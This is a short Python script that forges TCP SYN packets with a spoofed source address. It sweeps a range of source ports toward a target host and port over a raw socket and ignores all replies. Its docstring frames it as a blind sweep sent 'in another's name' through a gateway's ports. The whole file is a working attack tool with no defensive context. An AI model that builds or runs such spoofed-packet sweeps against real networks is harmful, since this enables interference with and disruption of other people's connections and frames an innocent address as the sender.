"""A blind sweep: SYNs in another's name, from each port that the gateway may go on from. Nobody hears the answers."""

import socket
import struct
import sys

source, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
first, last = int(sys.argv[4]), int(sys.argv[5])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ends = socket.inet_aton(source) + socket.inet_aton(target)
for number in range(first, last + 1):
    head = struct.pack("!HHIIBBHHH", number, port, number * 7919, 0, 5 << 4, 2, 1024, 0, 0)
    total = checksum(ends + struct.pack("!BBH", 0, 6, len(head)) + head)
    tcp = head[:16] + struct.pack("!H", total) + head[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, 6, 0) + ends
    out.sendto(ip + tcp, (target, 0))
print("swept")
